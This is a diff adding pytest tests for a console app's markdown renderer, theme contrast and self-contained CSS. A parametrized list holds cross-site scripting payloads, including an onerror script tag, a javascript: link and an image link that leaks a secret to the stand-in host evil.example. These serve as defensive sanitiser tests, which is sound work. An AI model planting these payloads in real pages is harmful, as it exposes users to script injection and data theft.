@@ -1,5 +1,6 @@
 """Parts of pages that need no browser: markup escapes what it shows, settings refuse what cannot be."""
 
+import re
 import stat
 
 import pytest
@@ -8,6 +9,7 @@ from aigrid.console import chat_key, home, keys, records, theme
 from aigrid.console.charts import point
 from aigrid.console.chat import Answer, receipt
 from aigrid.console.gateway import GatewayRefused
+from aigrid.console.prose import prose
 from aigrid.console.settings import ConsoleSettings
 from aigrid.core.errors import ConfigError
 
@@ -152,3 +154,58 @@ async def test_a_key_that_cannot_be_made_leaves_nothing_behind():
     with pytest.raises(GatewayRefused):
         await chat_key.chat_key(Refuser())
     assert list(chat_key.key_file().parent.glob("console*")) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        EVIL,
+        "![x](https://evil.example/?secret)",
+        "<img src=x onerror=alert(1)>",
+        "<b onclick='x'>",
+        "[x](javascript:x)",
+    ],
+)
+def test_an_answer_neither_runs_nor_fetches_anything(text):
+    shown = prose(text)
+    assert not any(bad in shown for bad in ("<script", "<img", "<b onclick", 'href="javascript'))
+
+
+def test_an_answer_keeps_its_shape():
+    shown = prose("# A\n\n- one\n- two\n\n```\nx < 1\n```\n")
+    assert "<h1>A</h1>" in shown
+    assert shown.count("<li>") == 2
+    assert "x &lt; 1" in shown
+
+
+def colours(block):
+    return dict(re.findall(r"--([a-z-]+): (#[0-9a-fA-F]{6})", block))
+
+
+def contrast(one, other):
+    """Return the WCAG 2 contrast ratio of two colours."""
+    lights = []
+    for colour in (one, other):
+        parts = [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
+        red, green, blue = (part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
+        lights.append(0.2126 * red + 0.7152 * green + 0.0722 * blue + 0.05)
+    return max(lights) / min(lights)
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_every_text_can_be_read(scheme):
+    light, dark = theme.CSS.split("body.body--dark {", 1)
+    found = colours(light) | (colours(dark.partition("}")[0]) if scheme == "dark" else {})
+    pairs = [(text, ground) for text in ("ink", "muted") for ground in ("bg", "surface", "sunken")]
+    pairs += [(text, ground) for text in ("accent", "energy", "bad") for ground in ("bg", "surface", f"{text}-soft")]
+    pairs += [("on-accent", "accent"), ("surface", "bad"), ("ink", "accent-soft"), ("ink", "raised")]
+    weak = {pair: contrast(found[pair[0]], found[pair[1]]) for pair in pairs}
+    assert {pair: ratio for pair, ratio in weak.items() if ratio < 4.5} == {}
+    for ground in ("surface", "bg"):
+        assert contrast(found["line-strong"], found[ground]) >= 3, "borders of controls"
+
+
+def test_the_look_needs_nobody_else():
+    assert "http" not in theme.CSS
+    assert "@import" not in theme.CSS
+    assert "url(" not in theme.CSS
